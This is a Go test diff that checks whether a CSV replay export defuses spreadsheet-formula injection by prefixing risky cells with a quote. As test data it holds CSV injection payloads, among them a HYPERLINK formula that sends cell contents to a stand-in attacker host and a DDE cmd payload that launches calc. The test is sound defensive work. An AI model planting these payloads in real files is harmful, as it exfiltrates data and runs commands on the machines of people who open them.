@@ -3,6 +3,7 @@ package replay_test
 import (
 	"bytes"
 	"context"
+	"encoding/csv"
 	"encoding/json"
 	"errors"
 	"fmt"
@@ -734,4 +735,73 @@ func (c cancelOnWrite) Write(p []byte) (int, error) {
 		c.cancel()
 	}
 	return len(p), nil
+}
+
+// TestReplayCSVInjection: CSV cells that a spreadsheet would run as a formula start with a ' (OWASP
+// CSV injection), plain numbers stay numbers, the file is valid CSV, and dropping the first
+// character of a cell that starts with ' gives back every raw value.
+func TestReplayCSVInjection(t *testing.T) {
+	f := newFixture(t, streamstest.Kfake(t), 0)
+	v, _ := f.set.Latest("billing.created")
+	env, err := f.serde.ParseJSON(v.Example)
+	if err != nil {
+		t.Fatal(err)
+	}
+	raw := map[string]string{
+		"data.billNumber":               `=HYPERLINK("http://evil.example/?d="&A1,"invoice")`,
+		"data.owner.address.city":       "+SUM(1,2)",
+		"data.owner.address.postalCode": "-2+3",
+		"data.propertyId":               "@cmd|' /C calc'!A0",
+		"data.owner.address.region":     "\tTAB",
+		"data.owner.name":               "\rCR",
+		"data.owner.taxId":              "'=quoted already",
+		"data.grossTotal.amount":        "-12.50",
+	}
+	d := env.Data
+	owner := d["owner"].(map[string]any)
+	addr := owner["address"].(map[string]any)
+	d["billNumber"], d["propertyId"] = raw["data.billNumber"], raw["data.propertyId"]
+	addr["city"], addr["postalCode"], addr["region"] = raw["data.owner.address.city"], raw["data.owner.address.postalCode"], raw["data.owner.address.region"]
+	owner["name"], owner["taxId"] = raw["data.owner.name"], raw["data.owner.taxId"]
+	d["grossTotal"].(map[string]any)["amount"] = big.NewRat(-1250, 100)
+	rec, err := f.serde.Record(context.Background(), env)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if err := f.b.Client(t).ProduceSync(context.Background(), rec).FirstErr(); err != nil {
+		t.Fatal(err)
+	}
+
+	dir := t.TempDir()
+	c := f.config()
+	c.EventTypes, c.Format, c.Out = []string{"billing.created"}, replay.CSV, dir
+	f.run(t, c)
+	file, err := os.Open(filepath.Join(dir, "billing.created.v1.csv"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer file.Close()
+	rows, err := csv.NewReader(file).ReadAll()
+	if err != nil || len(rows) != 2 {
+		t.Fatalf("not a valid CSV of one event: %v, %d rows", err, len(rows))
+	}
+	for i, col := range rows[0] {
+		cell := rows[1][i]
+		want, ok := raw[col]
+		if !ok {
+			continue
+		}
+		delete(raw, col)
+		if strings.HasPrefix(cell, "'") {
+			cell = cell[1:]
+		} else if col != "data.grossTotal.amount" {
+			t.Errorf("%s: cell %q is not defused", col, rows[1][i])
+		}
+		if cell != want {
+			t.Errorf("%s: raw value %q, want %q (cell %q)", col, cell, want, rows[1][i])
+		}
+	}
+	if len(raw) > 0 {
+		t.Errorf("columns missing from the CSV: %v", raw)
+	}
 }
